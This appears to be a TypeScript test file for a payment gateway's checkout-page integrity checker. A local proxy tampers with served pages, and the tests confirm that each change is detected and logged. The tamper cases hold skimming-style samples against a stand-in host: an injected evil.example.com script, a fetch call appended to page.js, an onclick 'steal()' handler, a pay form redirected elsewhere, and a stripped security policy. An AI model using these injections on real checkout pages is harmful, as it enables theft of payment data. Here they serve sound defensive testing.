import { createServer, type Server } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { addSite } from '../../../src/acquiring/checkout/settings.ts';
import { day_ms, hour_ms, minute_ms } from '../../../src/kernel/values/dates.ts';
import { createOperator } from '../../support/command.ts';
import { OpenedCheckout } from '../../support/checkout.ts';
import { freePort, startTestGateway, type TestGateway } from '../../support/gateway.ts';

/** What stands between customers and the gateway changes what goes through it. */
type Tamper = (path: string, answer: { headers: Headers; text: string; status: number }) => void;

let gateway: TestGateway;
let between: Server;
let tamper: Tamper = () => {};
beforeAll(async () => {
  const [port, own_port] = await Promise.all([freePort(), freePort()]);
  between = createServer((request, response) => {
    void (async () => {
      const path = request.url ?? '/';
      const body = request.method === 'POST' ? await buffer(request) : null;
      const got = await fetch(`http://127.0.0.1:${port}${path}`, { method: request.method ?? 'GET', body });
      const answer = { headers: new Headers(got.headers), status: got.status, text: await got.text() };
      tamper(path, answer);
      for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
        answer.headers.delete(name);
      response.writeHead(answer.status, Object.fromEntries(answer.headers)).end(answer.text);
    })();
  });
  await new Promise<void>((resolve) => between.listen(own_port, '127.0.0.1', resolve));
  gateway = await startTestGateway({
    environment: { PORT: String(port), PUBLIC_URL: `http://127.0.0.1:${own_port}` },
  });
});
afterAll(async () => {
  between.close();
  await gateway.close();
});
beforeEach(() => {
  tamper = () => {};
});

const rows = (): Promise<{ findings: string[]; inventory: Record<string, string> }[]> =>
  gateway.query('SELECT findings, inventory FROM checkout_page_checks ORDER BY checked_on');

describe('the payment page as it is served', () => {
  it('is checked once a day without a finding, with an inventory of its scripts', async () => {
    const client = await gateway.createClient();
    await OpenedCheckout.create(client);
    await gateway.work(minute_ms);
    await gateway.work(minute_ms);
    const [first, ...none] = await rows();
    expect(none).toEqual([]);
    expect(first).toEqual({
      findings: [],
      inventory: {
        'page.js': expect.stringMatching(/^sha384-/),
        'page.css': expect.stringMatching(/^sha384-/),
      },
    });
    await addSite(gateway.gateway.context, client.account_id, 'https://shop.example.com');
    await gateway.work(day_ms);
    expect((await rows()).map(({ findings }) => findings)).toEqual([[], []]);
  });

  it.each<[string, string, Tamper]>([
    [
      'another script',
      'has <script src="https://evil.example.com/x.js">',
      (path, answer) => {
        if (path.includes('/cs_'))
          answer.text = answer.text.replace(
            '</head>',
            '<script src="https://evil.example.com/x.js"></script></head>',
          );
      },
    ],
    [
      'a script that was changed',
      'page.js is served as sha384-',
      (path, answer) => {
        if (path.endsWith('.js')) answer.text += ';fetch("https://evil.example.com")';
      },
    ],
    [
      'a document that was changed',
      'the page without a session is not the document that was built',
      (path, answer) => {
        if (path.startsWith('/checkout/0/'))
          answer.text = answer.text.replace('<main>', '<main onclick="steal()">');
      },
    ],
    [
      'a script without its integrity',
      'a session’s page lacks <script src=',
      (path, answer) => {
        if (path.includes('/cs_')) answer.text = answer.text.replaceAll(/integrity="[^"]*"/g, '');
      },
    ],
    [
      'a form that sends elsewhere',
      'has <form id="pay-form" action="https://evil.example.com"',
      (_path, answer) => {
        answer.text = answer.text.replace(
          '<form id="pay-form"',
          '<form id="pay-form" action="https://evil.example.com"',
        );
      },
    ],
    [
      'a weaker policy',
      'has the header content-security-policy: null',
      (_path, { headers }) => headers.delete('content-security-policy'),
    ],
    [
      'an error',
      'a session’s page is answered with 502',
      (path, answer) => {
        if (path.includes('/cs_')) answer.status = 502;
      },
    ],
  ])('with %s is detected, logged and recorded', async (_what, finding, change) => {
    await OpenedCheckout.create(await gateway.createClient());
    tamper = change;
    const logged = gateway.log_lines.length;
    await gateway.work(day_ms);
    const found = (await rows()).at(-1)?.findings.join('\n');
    expect(found).toContain(finding);
    expect(found).not.toContain('/cs_');
    expect(gateway.log_lines.slice(logged).join('\n')).toContain(
      'the payment page is not served as it was built',
    );
  });

  it('is checked again within the hour after a finding, which stays recorded', async () => {
    const found = (await rows()).at(-1)?.findings;
    expect(found).not.toEqual([]);
    tamper = (path, { headers }) => {
      if (path.startsWith('/checkout/')) headers.set('referrer-policy', 'unsafe-url');
    };
    const count = (await rows()).length;
    await gateway.work(hour_ms / 2);
    expect((await rows()).slice(0, count).at(-1)?.findings).toEqual(found);
    await gateway.gateway.page_check.now();
    expect((await rows()).at(-1)?.findings.join('\n')).toContain('referrer-policy: unsafe-url');
  });
});

describe('the payment page of a gateway that only its own machine can reach', () => {
  it('is no finding of a worker on another machine, and is checked by one that reaches it', async () => {
    const port = await freePort();
    const apart = await startTestGateway({ environment: { PUBLIC_URL: `http://127.0.0.1:${port}` } });
    try {
      await apart.work(minute_ms);
      await apart.work(hour_ms);
      expect(await apart.query('SELECT findings FROM checkout_page_checks')).toEqual([]);
      const logged = apart.log_lines.map((line) => JSON.parse(line) as { level: number; msg: string });
      expect(logged.filter(({ msg }) => msg.includes('payment page')).map(({ msg }) => msg)).toEqual([
        'the payment page is not checked: it is not served here',
      ]);
      const wrong = createServer((_request, response) => void response.writeHead(502).end());
      await new Promise<void>((resolve) => wrong.listen(port, '127.0.0.1', resolve));
      await apart.work(hour_ms);
      wrong.close();
      const [row] = await apart.query<{ findings: string[] }>('SELECT findings FROM checkout_page_checks');
      expect(row?.findings.join()).toContain('is answered with 502');
    } finally {
      await apart.close();
    }
  });

  it('is a finding behind a proxy that does not answer', async () => {
    const environment = { PUBLIC_URL: `http://127.0.0.1:${await freePort()}`, TRUSTED_PROXIES: '127.0.0.1' };
    const behind = await startTestGateway({ environment });
    try {
      await behind.work(hour_ms);
      const [row] = await behind.query<{ findings: string[] }>('SELECT findings FROM checkout_page_checks');
      expect(row?.findings.join()).toContain('cannot be fetched');
    } finally {
      await behind.close();
    }
  });
});

describe('gateway checkout check', () => {
  it('ends with 0 without a finding, and with 1 and the finding otherwise, and checks lists both', async () => {
    const { port } = new URL(gateway.url);
    const operator = createOperator(gateway.connection, { PORT: port });
    const good = await operator.run('checkout', 'check', '--json');
    expect([good.code, JSON.parse(good.output).findings]).toEqual([0, []]);
    tamper = (path, answer) => {
      if (path.endsWith('.css')) answer.text = '';
    };
    const bad = await operator.run('checkout', 'check');
    expect(bad.code).toBe(1);
    expect(bad.output).toContain('page.css is served as sha384-');
    const [newest] = await operator.json('checkout', 'checks');
    expect(newest.findings.length).toBeGreaterThan(0);
    operator.remove();
  });
});
